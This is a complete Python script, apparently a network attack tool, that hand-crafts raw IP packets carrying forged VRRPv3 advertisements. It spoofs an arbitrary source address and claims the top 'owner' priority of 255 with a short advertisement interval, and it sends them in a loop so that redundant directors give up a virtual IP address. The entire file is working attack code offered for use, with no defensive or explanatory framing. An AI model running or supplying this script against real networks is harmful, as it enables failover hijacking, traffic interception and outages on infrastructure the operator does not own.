#!/usr/bin/env python3
"""vrrp-forger.py SOURCE TARGET VIRTUAL_ROUTER_ID VIP [COUNT]

Sends VRRPv3 advertisements of the highest priority in the name of SOURCE to a director, as somebody
would who wants the directors to let go of the VIP. SOURCE need not be an address of this machine.
Needs root's rights: the packets are made by hand. Prints how many were sent.
"""

import ipaddress
import socket
import struct
import sys
import time

VRRP = 112
# "I own the address": no director has more.
PRIORITY_OWNER = 255
# In hundredths of a second: soon enough that a director that believed it would stay away.
ADVERT_CENTISECONDS = 30
# On the directors' own network nothing has crossed a router; that is what they ask for.
TTL = 255
PAUSE_S = 0.02


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(source: bytes, target: bytes, router_id: int, vip: bytes) -> bytes:
    def body(check: int) -> bytes:
        head = struct.pack("!BBBBHH", 0x31, router_id, PRIORITY_OWNER, 1, ADVERT_CENTISECONDS, check)
        return head + vip

    pseudo = source + target + struct.pack("!BBH", 0, VRRP, len(body(0)))
    return body(checksum(pseudo + body(0)))


def packet(source: bytes, target: bytes, payload: bytes) -> bytes:
    # The kernel fills in length, identification and checksum of the IP header.
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 0, 0, 0, TTL, VRRP, 0, source, target)
    return head + payload


def main(arguments: list[str]) -> None:
    if len(arguments) not in (4, 5):
        sys.exit(__doc__)
    source, target, vip = (
        ipaddress.IPv4Address(arguments[place]).packed for place in (0, 1, 3)
    )
    count = int(arguments[4]) if len(arguments) == 5 else 50
    forged = packet(source, target, advert(source, target, int(arguments[2]), vip))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        for _ in range(count):
            wire.sendto(forged, (arguments[1], 0))
            time.sleep(PAUSE_S)
    print(count)


if __name__ == "__main__":
    main(sys.argv[1:])
